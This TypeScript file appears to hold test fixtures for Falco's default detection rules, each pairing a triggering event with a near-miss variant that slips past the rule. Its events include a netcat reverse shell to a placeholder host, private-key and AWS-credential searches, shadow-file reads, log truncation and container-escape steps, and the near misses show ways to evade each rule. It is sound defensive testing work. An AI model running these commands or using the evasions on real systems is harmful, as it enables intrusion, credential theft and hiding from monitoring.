/** For each rule of Falco's default file an event that it finds, and the change that hides it. */
export type Fields = Readonly<Record<string, unknown>>;

export interface DefaultCase {
  readonly rule: string;
  readonly event: Fields;
  /** What the near miss has instead. */
  readonly miss: Fields;
}

const PROCESS: Fields = {
  'event.error': '',
  'event.result': 0,
  'process.pid': 700,
  'process.ppid': 600,
  'process.uid': 1000,
  'process.euid': 1000,
  'process.auid': 1000,
  'user.name': 'ann',
  'process.parent.name': 'python3',
  'process.parent.args': ['python3', 'app.py'],
  'process.ancestors': [{ pid: 600, name: 'python3', path: '/usr/bin/python3.12' }],
};
const CONTAINER: Fields = { 'container.id': 'c0ffee'.repeat(11).slice(0, 64), 'container.runtime': 'docker' };

function exec(...args: readonly string[]): Fields {
  const path = args[0]?.startsWith('/') ? args[0] : `/usr/bin/${args[0] ?? ''}`;
  return {
    ...PROCESS,
    'event.type': 'process_exec',
    'event.syscall': 'execve',
    'process.name': path.split('/').at(-1),
    'process.comm': path.split('/').at(-1)?.slice(0, 15),
    'process.path': path,
    'process.args': args,
    'process.cwd': '/home/ann',
  };
}

function file(type: string, syscall: string, path: string, more: Fields = {}): Fields {
  return {
    ...PROCESS,
    'event.type': type,
    'event.syscall': syscall,
    'process.name': 'python3',
    'process.comm': 'python3',
    'process.path': '/usr/bin/python3.12',
    'process.args': ['python3', 'x.py'],
    'file.path': path,
    ...more,
  };
}

const read = (path: string) =>
  file('file_open', 'openat', path, { 'event.result': 3, 'file.access': 'read', 'file.flags': ['O_RDONLY'] });
const write = (path: string, ...flags: string[]) =>
  file('file_open', 'openat', path, {
    'event.result': 3,
    'file.access': 'write',
    'file.flags': ['O_WRONLY', ...flags],
  });

const ssh: Fields = {
  ...exec('/usr/bin/ssh', '-p', '443', 'example.org'),
  'event.type': 'net_conn',
  'event.syscall': 'connect',
  'event.error': 'EINPROGRESS',
  'event.result': -115,
  'network.transport': 'tcp',
  'network.family': 'ipv4',
  'network.direction': 'outbound',
  'network.source.ip': '192.168.1.4',
  'network.source.port': 40123,
  'network.destination.ip': '93.184.216.34',
  'network.destination.port': 443,
};

const above = (...names: string[]): Fields => ({
  'process.parent.name': names[0],
  'process.ancestors': names.map((name, at) => ({ pid: 600 - at, name, path: `/usr/bin/${name}` })),
});
const capabilities = (...names: string[]): Fields => ({ 'process.capabilities': names });
const ptrace = (request: string): Fields => ({
  ...exec('gdb'),
  'event.type': 'process_ptrace',
  'event.syscall': 'ptrace',
  'ptrace.request': request,
  'target.pid': 5,
});

export const DEFAULT_CASES: readonly DefaultCase[] = [
  {
    rule: 'Directory traversal monitored file read',
    event: { ...read('/etc/passwd'), 'file.passed_path': '/srv/www/../../etc/passwd' },
    miss: { 'file.passed_path': '/srv/../etc/passwd' },
  },
  {
    rule: 'Read sensitive file trusted after startup',
    event: { ...read('/etc/shadow'), 'process.name': 'nginx', 'process.start_time': 1000, 'event.timestamp': 5000 },
    miss: { 'event.timestamp': 1001 },
  },
  { rule: 'Read sensitive file untrusted', event: read('/etc/shadow'), miss: { 'process.name': 'cron' } },
  {
    rule: 'Run shell untrusted',
    event: { ...exec('/bin/sh', '-c', 'id'), ...above('nginx', 'systemd') },
    miss: above('nginxd', 'systemd'),
  },
  {
    rule: 'System user interactive',
    event: { ...exec('id'), ...above('bash', 'sshd'), 'user.name': 'daemon', 'process.uid': 1, 'process.euid': 1 },
    miss: above('bash', 'cron'),
  },
  {
    rule: 'Terminal shell in container',
    event: { ...exec('/bin/bash'), ...CONTAINER, ...above('runc'), 'process.tty': 'pts0' },
    miss: { 'process.tty': undefined },
  },
  {
    rule: 'Contact K8S API Server From Container',
    event: { ...ssh, ...CONTAINER, 'network.destination.hostname': 'kubernetes.default.svc.cluster.local' },
    miss: { 'network.destination.hostname': 'kubernetes.default' },
  },
  {
    rule: 'Netcat Remote Code Execution in Container',
    event: { ...exec('nc', '-e', '/bin/sh', '192.0.2.1', '4444'), ...CONTAINER },
    miss: { 'container.id': undefined },
  },
  {
    rule: 'Search Private Keys or Passwords',
    event: exec('grep', '-r', 'BEGIN RSA PRIVATE KEY', '/home'),
    miss: { 'process.args': ['grep', '-r', 'BEGIN RSA PUBLIC KEY', '/home'] },
  },
  {
    rule: 'Clear Log Activities',
    event: write('/var/log/auth.log', 'O_TRUNC'),
    miss: { 'file.flags': ['O_WRONLY', 'O_APPEND'] },
  },
  { rule: 'Remove Bulk Data from Disk', event: exec('shred', '-u', '/x'), miss: { 'process.name': 'shredder' } },
  {
    rule: 'Create Symlink Over Sensitive Files',
    event: file('file_symlink', 'symlinkat', '/tmp/x', { 'file.new_path': '/etc/shadow' }),
    miss: { 'file.new_path': '/etc/shadow-' },
  },
  {
    rule: 'Create Hardlink Over Sensitive Files',
    event: file('file_link', 'linkat', '/etc/shadow', { 'file.new_path': '/tmp/x' }),
    miss: { 'file.path': '/etc/hosts' },
  },
  {
    rule: 'Packet socket created in container',
    event: {
      ...exec('tcpdump'),
      ...CONTAINER,
      'event.type': 'socket_raw',
      'event.syscall': 'socket',
      'network.family': 'packet',
      'socket.type': 'raw',
    },
    miss: { 'network.family': 'ipv4' },
  },
  {
    rule: 'Redirect STDOUT/STDIN to Network Connection in Container',
    event: {
      ...ssh,
      ...CONTAINER,
      'event.type': 'socket_dup',
      'event.syscall': 'dup2',
      'event.error': '',
      'event.result': 0,
      'socket.fd': 0,
    },
    miss: { 'container.id': undefined },
  },
  {
    rule: 'Linux Kernel Module Injection Detected',
    event: {
      ...exec('insmod', 'x.ko'),
      ...CONTAINER,
      ...capabilities('CAP_SYS_MODULE'),
      'event.type': 'module_load',
      'event.syscall': 'finit_module',
      'module.name': 'x',
      'file.path': '/x.ko',
    },
    miss: capabilities('CAP_SYS_ADMIN'),
  },
  {
    rule: 'Debugfs Launched in Privileged Container',
    event: { ...exec('debugfs'), ...CONTAINER, 'container.privileged': true },
    miss: { 'container.privileged': false },
  },
  {
    rule: 'Detect release_agent File Container Escapes',
    event: {
      ...write('/tmp/cgrp/release_agent'),
      ...CONTAINER,
      ...capabilities('CAP_SYS_ADMIN', 'CAP_DAC_OVERRIDE'),
    },
    miss: capabilities('CAP_DAC_OVERRIDE'),
  },
  {
    rule: 'PTRACE attached to process',
    event: ptrace('PTRACE_ATTACH'),
    miss: { 'ptrace.request': 'PTRACE_CONT' },
  },
  {
    rule: 'PTRACE anti-debug attempt',
    event: ptrace('PTRACE_TRACEME'),
    miss: { 'ptrace.request': 'PTRACE_CONT' },
  },
  {
    rule: 'Find AWS Credentials',
    event: exec('find', '/home', '-path', '*/.aws/credentials'),
    miss: { 'process.args': ['find', '/home', '-path', '*/.aws/config'] },
  },
  {
    rule: 'Execution from /dev/shm',
    event: { ...exec('/dev/shm/x', '-v'), ...CONTAINER, 'container.image.name': 'docker.io/library/nginx' },
    miss: { 'container.image.name': 'quay.io/calico/node' },
  },
  {
    rule: 'Drop and execute new binary in container',
    event: { ...exec('/usr/local/bin/x'), ...CONTAINER, 'process.upper_layer': true },
    miss: { 'process.upper_layer': false },
  },
  {
    rule: 'Disallowed SSH Connection Non Standard Port',
    event: ssh,
    miss: { 'network.destination.port': 22 },
  },
  {
    rule: 'Fileless execution via memfd_create',
    event: { ...exec('/proc/self/fd/3'), 'process.memfd': true },
    miss: { 'process.memfd': false },
  },
];
